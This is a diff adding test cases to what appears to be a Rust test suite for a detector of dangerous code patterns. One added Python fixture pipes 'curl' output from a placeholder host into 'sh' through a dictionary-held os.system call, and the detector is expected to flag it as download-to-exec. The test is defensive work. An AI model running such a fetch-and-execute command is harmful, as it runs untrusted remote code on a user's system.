@@ -822,6 +822,21 @@ fn values_followed_through_the_program() {
             "delete-outside",
             "/home",
         ),
+        // Functions kept in a dictionary literal and called through it.
+        (
+            Py,
+            "import os\nops = {'run': os.system, 'show': print}\nops['run']('curl -s https://x.example.net/a | sh')\n",
+            Dangerous,
+            "download-to-exec",
+            "exec",
+        ),
+        (
+            Py,
+            "import json\nfmt = {'json': json.dumps, 'repr': repr}\nprint(fmt['json']({'a': 1}))\n",
+            Clean,
+            "",
+            "",
+        ),
         // JS: URL objects, the script's own directory, a documented host's connection.
         (
             Ts,
